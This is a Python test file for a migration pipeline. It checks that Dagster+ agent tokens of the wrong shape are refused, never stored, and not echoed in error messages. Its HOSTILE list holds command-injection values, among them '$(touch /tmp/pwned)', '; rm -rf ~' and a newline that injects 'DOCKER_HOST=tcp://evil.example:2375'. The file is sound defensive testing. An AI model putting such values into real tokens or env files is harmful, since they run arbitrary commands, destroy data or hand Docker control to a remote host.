"""Values from Dagster+ are checked against their documented shape before anything stores or
writes them (issue: hostile input, round two, class 2). The agent token ends up in an env file
that run-agent.sh sources and docker-compose's `env_file` reads: a token holding `$(...)` would
run as shell there, one holding a newline would add a variable to the agent's environment."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import client_for, make_scenario
from pydantic import SecretStr

from migration_pipeline.agent.token import ensure_agent_token, store_agent_token
from migration_pipeline.lib.names import agent_token_problem
from migration_pipeline.plus.errors import DagsterPlusError

HEX = "0123456789abcdef0123456789abcdef"
HOSTILE = [
    f"agent:acme:{HEX}$(touch /tmp/pwned)",
    f"agent:acme:{HEX}\nDOCKER_HOST=tcp://evil.example:2375",
    f"agent:acme:`id`{HEX}",
    f"agent:acme:{HEX} ; rm -rf ~",
    "agent:acme:not-a-uuid",
    f"user:acme:{HEX}",  # a user token where an agent token belongs
    f"agent:Acme Inc:{HEX}",
    "",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_token_of_another_shape_is_refused_without_showing_it(value):
    problem = agent_token_problem(value)
    assert problem is not None
    assert value not in problem or value == ""


@pytest.mark.parametrize(
    "value", [f"agent:acme:{HEX}", "agent:acme-eu:12345678-1234-5678-1234-567812345678"]
)
def test_the_documented_shapes_pass(value):
    assert agent_token_problem(value) is None


@pytest.mark.parametrize("value", HOSTILE[:3])
def test_a_hostile_token_created_by_the_server_is_never_stored(
    start_sandbox, monkeypatch, tmp_path, value
):
    import dagster_plus_sandbox.state as sandbox_state

    sandbox = start_sandbox()  # its user tokens made as usual; the next agent token is `value`
    monkeypatch.setattr(sandbox_state, "new_token_value", lambda kind, organization: value)
    with client_for(sandbox) as admin, pytest.raises(DagsterPlusError) as refused:
        ensure_agent_token(admin, "migration_pipeline: Hybrid agent for prod")
    message = str(refused.value)
    assert "it was not stored or written anywhere" in message
    assert value.split(":")[-1] not in message
    assert not Path("/tmp/pwned").exists()


def test_a_hostile_token_the_server_lists_for_reuse_is_refused(start_sandbox):
    description = "migration_pipeline: Hybrid agent for prod"
    scenario = make_scenario().__dict__
    tokens = [
        *scenario["tokens"],
        {"kind": "agent", "description": description, "value": HOSTILE[1]},
    ]
    sandbox = start_sandbox(make_scenario(tokens=tokens))
    with client_for(sandbox) as admin, pytest.raises(DagsterPlusError) as refused:
        ensure_agent_token(admin, description)
    assert "DOCKER_HOST" not in str(refused.value)


@pytest.mark.parametrize("store", ["env_file", "kubernetes_secret"])
def test_the_token_store_refuses_a_token_of_another_shape_and_writes_nothing(tmp_path, store):
    agent_dir = tmp_path / "dagster_cloud_agent" / "prod"
    with pytest.raises(ValueError, match="it was not stored"):
        store_agent_token(store, SecretStr(HOSTILE[0]), agent_dir, "prod")
    assert not agent_dir.exists()
